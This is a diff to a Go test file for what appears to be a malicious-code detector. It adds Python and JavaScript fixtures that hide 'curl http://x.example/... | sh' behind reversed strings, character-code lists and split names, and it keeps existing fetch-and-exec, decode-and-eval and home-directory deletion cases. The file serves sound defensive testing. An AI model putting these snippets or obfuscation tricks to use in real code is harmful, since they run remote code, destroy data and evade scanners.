@@ -43,7 +43,12 @@ func TestPython(t *testing.T) {
 		{"import requests\ncode = requests.get('https://x.example/a.py').text\nexec(code)\n", "fetch-exec"},
 		{"import base64\nexec(base64.b64decode('" + packed + "'))\n", "decode-exec,shell:pipe-to-shell"},
 		{"m = __import__('o' + 's')\nf = getattr(m, 'sys' + 'tem')\nf('\\x63\\x75\\x72\\x6c https://x.example/i.sh|sh')\n", "obfuscated,shell:pipe-to-shell"},
-		{"const run = globalThis['ev' + 'al'];\nrun(Buffer.from('6375726c2068747470733a2f2f782e6578616d706c652f692e73687c7368', 'hex').toString());\n", "decode-exec,shell:pipe-to-shell"},
+		{"const run = globalThis['ev' + 'al'];\nrun(Buffer.from('6375726c2068747470733a2f2f782e6578616d706c652f692e73687c7368', 'hex').toString());\n", "decode-exec,obfuscated,shell:pipe-to-shell"},
+		// Strings reversed, or built from character codes, fold.
+		{"import os\nos.system(''.join(reversed('hs | a/elpmaxe.x//:ptth lruc')))\n", "shell:pipe-to-shell"},
+		{"import os\nos.system(''.join(map(chr, [99,117,114,108,32,104,116,116,112,58,47,47,120,46,101,120,97,109,112,108,101,47,97,32,124,32,115,104])))\n", "shell:pipe-to-shell"},
+		{"o = __import__(''.join(map(chr, [111, 115])))\ngetattr(o, ''.join(reversed('metsys')))('curl http://x.example/a | sh')\n", "obfuscated,shell:pipe-to-shell"},
+		{"print(''.join(reversed('olleh')), sum(map(int, [1, 2])))\n", ""},
 		{"import os, shutil\nT = [os.path.expanduser('~'), '/tmp']\nfor t in T:\n    shutil.rmtree(t)\n", "destructive"},
 		{"import os, shutil\nshutil.rmtree(os.path.expanduser('~/.cache/app'))\n", ""},
 		{"import subprocess\nsubprocess.run(['ls', '-l'])\n", ""},
@@ -71,6 +76,9 @@ func TestJS(t *testing.T) {
 		{"const https = require('https');\nhttps.get('https://x.example/a.js', (res) => {\n  let body = '';\n  res.on('data', (c) => (body += c));\n  res.on('end', () => eval(body));\n});\n", "fetch-exec"},
 		{"const https = require('https');\nhttps.get('https://x.example/a.js', (res) => {\n  let data = '';\n  res.on('data', (c) => (data += c));\n  res.on('end', () => { const run = new Function('require', 'process', data); run(require, process); });\n});\n", "fetch-exec"},
 		{"const add = new Function('a', 'b', 'return a + b');\n", ""},
+		{"const b = ['child', '_process'];\nconst m = require(b.join(''));\nm.exec('curl http://x.example/a | bash');\n", "shell:pipe-to-shell"},
+		{"const a = ['ex', 'ec'];\nconst m = require('child_process');\nm[a.join('')]('curl http://x.example/a | bash');\n", "obfuscated,shell:pipe-to-shell"},
+		{"const parts = ['a', 'b'];\nconsole.log(parts.join('-'));\n", ""},
 		{"const cfg = '" + packed + "';\neval(Buffer.from(cfg, 'base64').toString('utf8'));\n", "decode-exec,shell:pipe-to-shell"},
 		{"fetch('https://api.example/x', {headers: {Authorization: `Bearer ${process.env.API_TOKEN}`}})\n", ""},
 		// A request's end() and write() send what they are given; a path
